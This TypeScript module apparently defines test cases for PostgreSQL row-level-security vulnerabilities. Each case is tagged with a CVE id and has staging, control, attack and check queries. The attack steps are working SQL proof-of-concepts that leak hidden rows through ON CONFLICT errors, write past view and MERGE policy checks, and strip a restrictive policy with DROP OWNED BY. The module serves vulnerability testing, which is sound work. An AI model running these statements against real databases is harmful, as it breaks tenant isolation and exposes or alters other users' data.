import { as, back, type Hole, type Names, table } from "./hole.js"

const tenants = (names: Names): string[] => [
  ...table(names, "k int primary key, tenant int, word text"),
  `insert into ${names.schema}.t values (1, 1, 'mine'), (2, 2, 'hidden')`,
]

export const writes: readonly Hole[] = [
  {
    cve: "CVE-2026-120154",
    what: "the condition of ON CONFLICT DO UPDATE reads a hidden row and shows it in an error",
    stage: (names) => [
      ...tenants(names),
      `grant select, insert, update on ${names.schema}.t to ${names.one}`,
      `create policy p on ${names.schema}.t using (tenant = 1)`,
      as(names.one),
    ],
    control: ({ schema }) => `select 1 where (select count(*) from ${schema}.t) = 1`,
    attack: ({ schema }) => [
      `insert into ${schema}.t values (2, 1, 'x') on conflict (k) do update set word = 'x' where t.word::int > 0`,
    ],
    open: () => "select where false",
  },
  {
    cve: "CVE-2026-16237",
    what: "ON CONFLICT DO UPDATE through a view writes a row that the view hides",
    stage: (names) => [
      ...table(names, "k int primary key, tenant int, word text"),
      `alter table ${names.schema}.t disable row level security`,
      `insert into ${names.schema}.t values (1, 1, 'mine'), (2, 2, 'hidden')`,
      `create view ${names.schema}.v with (security_barrier) as select * from ${names.schema}.t where tenant = 1 with check option`,
      `grant select, insert, update on ${names.schema}.v to ${names.one}`,
      as(names.one),
    ],
    control: ({ schema }) => `select 1 where (select count(*) from ${schema}.v) = 1`,
    attack: ({ schema }) => [
      `insert into ${schema}.v values (2, 1, 'x') on conflict (k) do update set tenant = 1, word = 'written'`,
      back,
    ],
    open: ({ schema }) => `select 1 from ${schema}.t where k = 2 and word = 'written'`,
  },
  {
    cve: "CVE-2023-39418",
    what: "MERGE checks a changed row by the policies for INSERT instead of those for UPDATE",
    from: 150_000,
    stage: (names) => [
      ...tenants(names),
      `grant select, insert, update on ${names.schema}.t to ${names.one}`,
      `create policy s on ${names.schema}.t for select using (true)`,
      `create policy i on ${names.schema}.t for insert with check (true)`,
      `create policy u on ${names.schema}.t for update using (true) with check (tenant = 1)`,
      as(names.one),
    ],
    control: ({ schema }) => `select 1 where (select count(*) from ${schema}.t) = 2`,
    attack: ({ schema }) => [
      `merge into ${schema}.t using (select 1 as k) as s on t.k = s.k when matched then update set tenant = 3`,
      back,
    ],
    open: ({ schema }) => `select 1 from ${schema}.t where tenant = 3`,
  },
  {
    cve: "CVE-2026-116311",
    what: "DROP OWNED BY takes a role out of the restrictive policies on other people's tables",
    stage: (names) => [
      ...tenants(names),
      `create policy p on ${names.schema}.t using (true)`,
      `create policy fence on ${names.schema}.t as restrictive to ${names.one} using (tenant = 1)`,
    ],
    control: ({ schema }) =>
      `select 1 from pg_catalog.pg_policy where polrelid = '${schema}.t'::regclass and polname = 'fence'`,
    attack: ({ one }) => [as(one), `drop owned by ${one}`, back],
    open: ({ schema }) =>
      `select 1 where not exists (select from pg_catalog.pg_policy where polrelid = '${schema}.t'::regclass and polname = 'fence')`,
  },
]
